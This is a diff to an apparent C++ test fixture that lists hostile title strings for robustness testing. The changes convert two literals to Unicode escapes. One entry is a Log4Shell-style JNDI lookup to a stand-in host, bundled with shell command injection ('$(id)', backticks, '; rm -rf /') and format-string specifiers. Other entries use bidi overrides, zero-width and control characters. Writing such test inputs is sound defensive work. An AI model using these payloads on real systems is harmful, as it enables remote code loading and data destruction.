@@ -44,8 +44,7 @@ inline std::vector<std::string> hostile_titles() {
       "{{template}} ${jndi:ldap://evil.example/a} %s %n %d {0} $(id) `id` ; rm -rf /",
       "\"quotes\" 'of' \"every\" kind\\\" },{\"type\":\"header\"}",
       // What is not seen, or turns what is.
-      "\xE2\x80\xAE"
-      "desrever",
+      "\u202Edesrever",
       "\xE2\x81\xA6isolate\xE2\x81\xA9",
       "\xE2\x80\x8F\xE2\x80\x8E marks",
       "zero\u200Bwidth\u200Djoined\u2060word\uFEFF",
@@ -57,8 +56,7 @@ inline std::vector<std::string> hostile_titles() {
       std::string("nul\0in the middle", 17),
       "line\nbreak\r\nand\ttab",
       "\xC2\x85next line \xE2\x80\xA8separator \xE2\x80\xA9paragraph",
-      "\xC2\x9B"
-      "31m C1",
+      "\u009B31m C1",
       // Broken and odd text.
       "\xED\xA0\x80 surrogate \xED\xBF\xBF",
       "\xFF\xFE not utf-8 \xC3",
